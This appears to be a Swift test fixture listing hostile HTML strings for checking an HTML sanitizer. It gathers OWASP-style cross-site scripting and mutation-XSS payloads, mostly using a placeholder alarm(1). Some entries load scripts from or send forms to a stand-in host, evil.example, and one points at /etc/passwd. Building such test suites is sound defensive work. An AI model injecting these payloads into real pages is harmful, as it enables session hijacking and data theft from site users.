/// Markup that tries to run scripts, load resources or send forms, written for this project.
///
/// It follows the families of the OWASP filter evasion list and of mutation attacks. `alarm` stands
/// for the effect of a script; no case may run it.
enum HostileMarkup {
  /// Cases after which the page continues.
  static let whole: [String] =
    scripts + handlers + addresses + styles + embeds + documents
    + foreign + mutations + spelling

  /// Cases that swallow the content after them, as in a browser.
  static let open: [String] = [
    "<!-- never closed <img src=x onerror=alarm(1)>", "<img src=\"x\" alt=\"never closed",
    "<script>alarm(1)", "<style>@import 'http://evil.example/x.css';",
    "<plaintext><script>alarm(1)</script>", "<textarea><script>alarm(1)</script>",
    "<title><script>alarm(1)</script>", "<iframe src=\"javascript:alarm(1)\"",
    "<script src=//evil.example/.j", "<xmp><script>alarm(1)</script>",
    "<a href='javascript:alarm(1)",
    "<noembed><script>alarm(1)</script>", "<svg><style><img src=x onerror=alarm(1)>",
    "<template><script>alarm(1)</script>", "<![CDATA[<script>alarm(1)</script>",
    "<?xml <img src=x onerror=alarm(1)", "<select><option><script>alarm(1)</script>",
    "<math><annotation-xml encoding=\"text/html\"><script>alarm(1)</script>",
    "<svg/onload=alarm(1)//", "`<script>`alarm(1)",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alarm(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alarm(1)></style></form>",
  ]

  private static let scripts = [
    "<script>alarm(1)</script>", "<ScRiPt>alarm(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>", "<script\n\ttype='module'>alarm(1)</script >",
    "<<script>alarm(1);//<</script>", "<scr<script>ipt>alarm(1)</scr</script>ipt>",
    "<script>/*<!--*/alarm(1)/*-->*/</script>",
    "<script><!--<script>alarm(1)</script>-->x</script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">alarm(1)</script>",
    "<script>\u{2028}alarm(1)</script>", "</script><script>alarm(1)</script>",
    "<script charset=\"utf-7\">+AGEAbABhAHIAbQ-</script>",
    "<noscript><script>alarm(1)</script></noscript>",
  ]

  private static let handlers = [
    "<img src=x onerror=alarm(1)>", "<img src=x:x onerror  =  'alarm(1)'>",
    "<img/src=x/onerror=alarm(1)>", "<b onmouseover=alarm(1)>x</b>",
    "<body onload=alarm(1)>x</body>",
    "<p onclick=\"alarm(1)\" tabindex=0 autofocus onfocus=alarm(1)>x</p>",
    "<img \"\"\"><script>alarm(1)</script>\">", "<img src=`x`onerror=alarm(1)>",
    "<details open ontoggle=alarm(1)>x</details>", "<video><source onerror=alarm(1)></video>",
    "<audio src=x onerror=alarm(1)>x</audio>", "<marquee onstart=alarm(1)>x</marquee>",
    "<input autofocus onfocus=alarm(1)>", "<a href=# OnClIcK=alarm(1)>x</a>",
    "<img src=x onerror=\"&#97;&#108;&#97;rm(1)\">",
    "<table onscroll=alarm(1)><tr><td>x<td>y</table>",
    "<div style=\"animation:x\" onanimationstart=alarm(1)>x</div>",
    "<b/onpointerenter=alarm(1)//x>x</b>", "<img src=x o\u{0}nerror=alarm(1)>",
    "<span class=\"vcard\" onclick=alarm(1)><span class=\"listing-name\" onclick=alarm(1)>x</span></span>",
  ]

  private static let addresses = [
    "<a href=\"javascript:alarm(1)\">x</a>", "<a href=\"JaVaScRiPt:alarm(1)\">x</a>",
    "<a href=\"java\tscript:alarm(1)\">x</a>", "<a href=\"java&#x0A;script:alarm(1)\">x</a>",
    "<a href=\"&#14; javascript:alarm(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97script&colon;alarm(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alarm(1)\">x</a>",
    "<a href=\"&#0000106avascript:alarm(1)\">x</a>",
    "<a href=\"jav\u{0}ascript:alarm(1)\">x</a>", "<a href=\"javascript&Tab;:alarm(1)\">x</a>",
    "<a href=\"\u{1}javascript:alarm(1)\">x</a>", "<a href=javascript://%0aalarm(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"livescript:alarm(1)\">x</a>",
    "<a href=\"data:text/html,<script>alarm(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"blob:https://x/y\">x</a>",
    "<a href=\"view-source:javascript:alarm(1)\">x</a>",
    "<a href=\"feed:javascript:alarm(1)\">x</a>",
    "<a href=\"jar:javascript:alarm(1)!/\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
    "<img src=\"javascript:alarm(1)\">", "<img src=\"data:image/svg+xml,<svg onload=alarm(1)>\">",
    "<img data-src=\"javascript:alarm(1)\" width=200 height=200>",
    "<img src=//evil.example/p.gif width=300 height=200>",
    "<img srcset=\"//evil.example/p.gif 1x\">",
    "<a xlink:href=\"javascript:alarm(1)\">x</a>", "<a href=x ping=//evil.example>x</a>",
    "<area href=\"javascript:alarm(1)\">", "<a href=\"//evil.example\\@x/\">x</a>",
    "<a href='https://x\" onclick=\"alarm(1)'>x</a>", "<a href=\"ms-settings:x\">x</a>",
    "<a class=image href=\"javascript:alarm(1)\"><img src=\"javascript:alarm(1)\" width=200></a>",
  ]

  private static let styles = [
    "<div style=\"background:url(javascript:alarm(1))\">x</div>",
    "<div style=\"width:expression(alarm(1))\">x</div>",
    "<style>@import url(//evil.example/x);</style>",
    "<style>p{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style=\"-moz-binding:url(//evil.example/x#y)\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9\">x</div>",
    "<style><!--</style><script>alarm(1)</script>--></style>",
    "<xss style=\"behavior:url(x.htc)\">x</xss>", "<p style='a:\\65xpression(alarm(1))'>x</p>",
    "<table background=\"javascript:alarm(1)\"><tr><td background=//evil.example/x>x<td>y</table>",
  ]

  private static let embeds = [
    "<iframe src=\"javascript:alarm(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alarm(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alarm(1)</script>\"></object>",
    "<embed src=\"//evil.example/x.swf\" allowscriptaccess=always>",
    "<applet code=x.class></applet>",
    "<frameset><frame src=\"javascript:alarm(1)\"></frameset>",
    "<video poster=javascript:alarm(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>", "<portal src=//evil.example/></portal>",
    "<object classid=clsid:x><param name=url value=javascript:alarm(1)></object>",
    "<bgsound src=\"javascript:alarm(1)\">", "<layer src=//evil.example/x></layer>",
    "<input type=image src=\"javascript:alarm(1)\">", "<canvas id=x></canvas>",
  ]

  private static let documents = [
    "<meta http-equiv=refresh content=\"0;url=javascript:alarm(1)\">",
    "<meta http-equiv=Set-Cookie content=\"a=b\">", "<base href=\"javascript:alarm(1);//\">",
    "<base href=//evil.example/><a href=\"/wiki/X\">x</a>",
    "<link rel=import href=//evil.example/x>",
    "<link rel=preload as=script href=//evil.example/x>",
    "<form action=//evil.example/><input name=a><button>go</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alarm(1)>x</button>",
    "<isindex action=javascript:alarm(1) type=image>", "<textarea onfocus=alarm(1)>x</textarea>",
    "<meta charset=utf-7>+ADw-script+AD4-alarm(1)+ADw-/script+AD4-",
    "<dialog open>x</dialog><a href=# popovertarget=x>x</a>",
    "<menu id=x><menuitem onclick=alarm(1)></menu>",
    "<form name=getElementById></form><img name=cookie>", "<head><title>x</title></head>",
    "<slot name=x></slot><div is=x-y>x</div>",
  ]

  private static let foreign = [
    "<svg onload=alarm(1)></svg>", "<svg><script>alarm(1)</script></svg>",
    "<svg><script href=//evil.example/x></script></svg>",
    "<svg><a xlink:href=javascript:alarm(1)>x</a></svg>",
    "<svg><animate attributeName=href values=javascript:alarm(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,x#y\"></use></svg>",
    "<svg><foreignObject><script>alarm(1)</script></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alarm(1)></svg>",
    "<math href=javascript:alarm(1)><mi>x</mi></math>",
    "<math><mi xlink:href=javascript:alarm(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alarm(1)>x</maction></math>",
    "<math><semantics><annotation-xml encoding=text/html><img src=x onerror=alarm(1)></annotation-xml></semantics></math>",
    "<math><mtext><img src=x onerror=alarm(1)></mtext></math>",
    "<math><annotation encoding=\"application/x-tex\">\\href{javascript:alarm(1)}{x}</annotation></math>",
    "<span class=\"mwe-math-element\"><math><mtext><style><img src=x onerror=alarm(1)></style></mtext></math></span>",
  ]

  private static let mutations = [
    "<noscript><p title=\"</noscript><img src=x onerror=alarm(1)>\"></p></noscript>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alarm(1)>\"></svg>",
    "<template><s><template><s><img src=x onerror=alarm(1)></template></s></template>",
    "<xmp><p title=\"</xmp><svg/onload=alarm(1)>\"></xmp>",
    "<listing>&lt;img src=x onerror=alarm(1)&gt;</listing>",
    "<p title=\"&quot;&gt;&lt;script&gt;alarm(1)\">x</p>",
    "<textarea><p title=\"</textarea><img src=x onerror=alarm(1)>\"></textarea>",
    "<abbr title='\"><img src=x onerror=alarm(1)>'>x</abbr>",
    "<a href='\"><script>alarm(1)</script>'>x</a>", "<!--><img src=x onerror=alarm(1)>-->",
    "<!---><img src=x onerror=alarm(1)>-->", "<!--x--!><img src=x onerror=alarm(1)>-->",
    "<!-- --!><script>alarm(1)</script> -->", "<![CDATA[><img src=x onerror=alarm(1)>]]>",
    "<?php ><img src=x onerror=alarm(1)> ?>", "</ <img src=x onerror=alarm(1)>>",
    "<!DOCTYPE x [<!ENTITY y \"<script>alarm(1)</script>\">]>",
    "<!ELEMENT x><script>alarm(1)</script>",
  ]

  private static let spelling = [
    "&lt;script&gt;alarm(1)&lt;/script&gt;", "&#60;script&#62;alarm(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alarm(1)", "%3Cscript%3Ealarm(1)%3C/script%3E",
    "\u{FF1C}script\u{FF1E}alarm(1)\u{FF1C}/script\u{FF1E}", "\\u003cscript\\u003ealarm(1)",
    "+ADw-img src=x onerror=alarm(1)+AD4-", "<h2 id='\"><script>alarm(1)</script>'>x</h2>",
    "<span lang='\"><script>alarm(1)</script>'>x</span>",
    "<bdo dir='\" onclick=alarm(1) \"'>x</bdo>",
    "<ol start='1\" onclick=alarm(1)'><li>x</ol>",
    "<table><tr><td colspan='2\" onclick=alarm(1)'>x<td rowspan=\"-1e999\">y</table>",
    "<div class=\"mw-highlight mw-highlight-lang-x\"><pre>&lt;/code&gt;&lt;script&gt;alarm(1)</pre></div>",
    "<sup class=reference><a href='#cite_note-\"><script>alarm(1)</script>'>[\"&gt;&lt;script&gt;]</a></sup>",
    "<img src='https://x/\"><script>alarm(1)</script>' alt='\"><script>alarm(1)</script>' width=200 height=200>",
    "[x](javascript:alarm(1)) ![y](//evil.example/p.gif)", "<p>]: javascript:alarm(1)</p>",
    "<a href=\"https://example.com/)[x](javascript:alarm(1)\">x</a>",
    "<x:script>alarm(1)</x:script>",
  ]
}
